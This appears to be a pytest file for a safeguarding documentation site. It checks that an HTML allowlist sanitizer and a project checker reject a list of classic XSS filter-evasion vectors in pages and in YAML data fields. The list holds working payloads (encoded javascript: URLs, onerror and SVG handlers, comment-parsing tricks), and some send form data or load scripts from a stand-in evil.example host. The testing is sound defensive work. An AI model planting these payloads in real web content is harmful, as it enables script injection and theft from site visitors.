"""text/safety.py: rendered content judged against the written allowlist, and `check` finding every vector.

The vectors are the classic filter-evasion ones (entities, control characters in URL schemes, attribute
lists, SVG and MathML, srcdoc, comment tricks, mixed case, null bytes). Each is put in a page of docs/ and in
a data field (a recommendation's text in cross_refs/recommendations.yaml) of a copy of the project, and
`check` must fail naming that page or that entry.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from safeguarding_site.checks.project import check_project
from safeguarding_site.checks.rendering import Renderer
from safeguarding_site.text.safety import ALLOWED_ELEMENTS, unsafe_html, url_scheme

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javas&Tab;cript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    '[x](#){ onclick="alert(1)" }',
    "Some words.\n{: onmouseover=alert(1) }",
    "## A heading { onclick=alert(1) }",
    '<svg onload="alert(1)"></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example/steal"><input name="q"></form>',
    '<form action="//evil.example/steal"><button>Go</button></form>',
    '<form method="post" action="index.html"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=import href="https://evil.example/x.html">',
    "<style>body { display: none }</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<!-- x --!><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<div>`<img src=x onerror=alert(1)>`</div>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1)>x</p>",
    '<input onfocus="alert(1)" autofocus>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    "<video><source onerror=alert(1)></video>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
REFUSED = re.compile(r"is not allowed|cannot read|may only")


@pytest.mark.parametrize("vector", VECTORS)
def test_every_vector_is_refused_once_rendered(vector: str) -> None:
    renderer = Renderer(["attr_list", "md_in_html", "footnotes", "abbr", "def_list", "admonition"])
    found = unsafe_html(renderer.html(f"# Page\n\nSome text.\n\n{vector}\n"))
    assert found and all(REFUSED.search(u.message) for u in found), (vector, found)


@pytest.mark.parametrize(("html", "message"), [
    ('<a href="java\tscript:x">', "a javascript: URL"),
    ('<a href="\x01javascript:x">', "a javascript: URL"),
    ('<img src="DATA:image/png;base64,AAAA">', "a data: URL"),
    ('<td style="color: red">x</td>', 'style="color: red" is not allowed'),
    ('<form action="https://evil.example">', "a form may only send to a page of this site"),
    ('<input type="image" src="x.png">', '<input type="image"> is not allowed'),
    ('<a href="x.html" target="_blank">x</a>', "the attribute target= is not allowed on <a>"),
    ("<!-- <iframe src=x> -->", "raw HTML <iframe> is not allowed"),
    ("<?php <script>x</script> ?>", "raw HTML <script> is not allowed"),
    ("<p>a <img src=x onerror=alert(1)</p>", "the event handler onerror= is not allowed"),
])
def test_what_the_allowlist_refuses(html: str, message: str) -> None:
    assert any(message in u.message for u in unsafe_html(html)), unsafe_html(html)


@pytest.mark.parametrize("html", [
    # What the site itself renders: its own forms, table alignment, abbreviations, footnotes, permalinks,
    # the organisation filter, toggletips, buttons and the download link.
    '<form class="rec-finder" action="recommendations/index.html" data-rec-finder data-max="58" hidden novalidate>'
    '<label class="rec-finder__label" for="rec-number">Go to</label><input id="rec-number" class="x" name="n" '
    'type="text" inputmode="numeric" autocomplete="off" spellcheck="false" size="3" aria-describedby="h">'
    '<button class="md-button" type="submit">Go</button></form><p id="h" role="alert" hidden></p>',
    '<table><thead><tr><th style="text-align: right;">N</th></tr></thead><tbody><tr>'
    '<td style="text-align: right;">1</td></tr></tbody></table>',
    '<p>The <abbr title="Local Safeguarding Children Board">LSCB</abbr><sup id="fnref:1">'
    '<a class="footnote-ref" href="#fn:1">1</a></sup></p><div class="footnote"><hr><ol><li id="fn:1">'
    '<p>Note.&#160;<a class="footnote-backref" href="#fnref:1" title="Jump back">&#8617;&#xFE0E;</a></p></li></ol>'
    "</div>",
    '<h2 id="x">Title<a class="headerlink" href="#x" title="Link to this section">&para;</a></h2>',
    '<section class="sector" data-sector="health"><button type="button" class="toggletip" aria-expanded="false" '
    'aria-controls="t1" data-open-search hidden>?</button><span id="t1" role="status"></span></section>',
    '<p><a href="download/working-together-offline.zip" download="working-together-offline.zip" '
    'class="md-button md-button--primary">Download</a> <a href="https://www.gov.uk/">GOV.UK</a> '
    '<a href="mailto:someone@example.org">mail</a> <a href="//www.example.org/">x</a></p>',
    "<p>Escaped text: &lt;script&gt;alert(1)&lt;/script&gt; and a &lt; b, c &gt; d.</p>",
    "<pre><code>&lt;iframe srcdoc=x&gt;</code></pre><!-- an editor's note -->",
    '<details class="note" open><summary>More</summary><dl><dt id="a">A</dt><dd>B</dd></dl></details>',
])
def test_what_the_site_uses_passes(html: str) -> None:
    assert unsafe_html(html) == []


def test_url_schemes_are_read_as_browsers_read_them() -> None:
    assert url_scheme("  JaVa\tScRipt:x") == "javascript"
    assert url_scheme("\x00java\nscript:x") == "javascript"
    assert url_scheme("../recommendations/1.html#rec-1") is None
    assert url_scheme("#fn:1") is None
    assert url_scheme("https://www.gov.uk/") == "https"


def test_the_allowlist_is_written_down_and_closed() -> None:
    assert "script" not in ALLOWED_ELEMENTS and "iframe" not in ALLOWED_ELEMENTS and "svg" not in ALLOWED_ELEMENTS
    assert not any(name.startswith("on") for attributes in ALLOWED_ELEMENTS.values() for name in attributes)


# ----- check on a copy of the project: every vector, in a page and in a data field -----


def _copy(root: Path, tmp: Path) -> Path:
    for folder in ("cross_refs", "docs"):
        shutil.copytree(root / folder, tmp / folder)
    config = (root / "mkdocs.yml").read_text(encoding="utf-8")
    (tmp / "mkdocs.yml").write_text(config.replace("not_in_nav: |\n", "not_in_nav: |\n  /xss/*.md\n", 1),
                                    encoding="utf-8")
    return tmp


@pytest.fixture(scope="module")
def in_pages(root: Path, tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """Every vector on line 3 of a page of its own; check's problems, as it prints them."""
    project = _copy(root, tmp_path_factory.mktemp("pages"))
    (project / "docs/xss").mkdir()
    for number, vector in enumerate(VECTORS):
        (project / f"docs/xss/v{number}.md").write_text(f"# Vector {number}\n\n{vector}\n", encoding="utf-8")
    return [str(problem) for problem in check_project(project)]


@pytest.fixture(scope="module")
def in_data(root: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[list[str], dict[int, int]]:
    """Every vector added to one recommendation's text; check's problems, and each recommendation's line."""
    project = _copy(root, tmp_path_factory.mktemp("data"))
    path = project / "cross_refs/recommendations.yaml"
    lines = path.read_text(encoding="utf-8").split("\n")
    rec_id, placed = 0, {}
    for index, line in enumerate(lines):
        if line.startswith("- id: "):
            rec_id = int(line[6:])
        elif line == "  recommendation: |-" and rec_id <= len(VECTORS):
            # Double-quoted, JSON-escaped: YAML accepts the escapes, so even a null byte is one field's text.
            block = []
            for follower in lines[index + 1:]:
                if not follower.startswith("    ") and follower.strip():
                    break
                block.append(follower[4:])
            text = "\n".join(block).strip("\n") + "\n\n" + VECTORS[rec_id - 1]
            lines[index] = "  recommendation: " + json.dumps(text)
            lines[index + 1: index + 1 + len(block)] = [""] * len(block)
            placed[rec_id - 1] = index + 1
    path.write_text("\n".join(line for line in lines), encoding="utf-8")
    assert len(placed) == len(VECTORS)
    return [str(problem) for problem in check_project(project)], placed


@pytest.mark.parametrize("number", range(len(VECTORS)))
def test_check_finds_the_vector_in_a_page(in_pages: list[str], number: int) -> None:
    name = f"docs/xss/v{number}.md"
    reported = [p for p in in_pages if p.startswith(f"{name}:") and REFUSED.search(p)]
    assert reported, (VECTORS[number], [p for p in in_pages if "xss" in p])
    lines = {int(m.group(1)) for p in reported if (m := re.match(rf"{re.escape(name)}:(\d+):", p))}
    assert lines and lines <= {3, 4, 5}, reported  # the vector's lines, so the editor finds it


@pytest.mark.parametrize("number", range(len(VECTORS)))
def test_check_finds_the_vector_in_a_data_field(in_data: tuple[list[str], dict[int, int]], number: int) -> None:
    problems, placed = in_data
    reported = [p for p in problems if p.startswith(f"cross_refs/recommendations.yaml:{placed[number]}:")]
    assert reported, (VECTORS[number], [p for p in problems if f":{placed[number]}:" in p])


def test_the_real_site_has_no_findings(root: Path) -> None:
    assert [str(p) for p in check_project(root)] == []
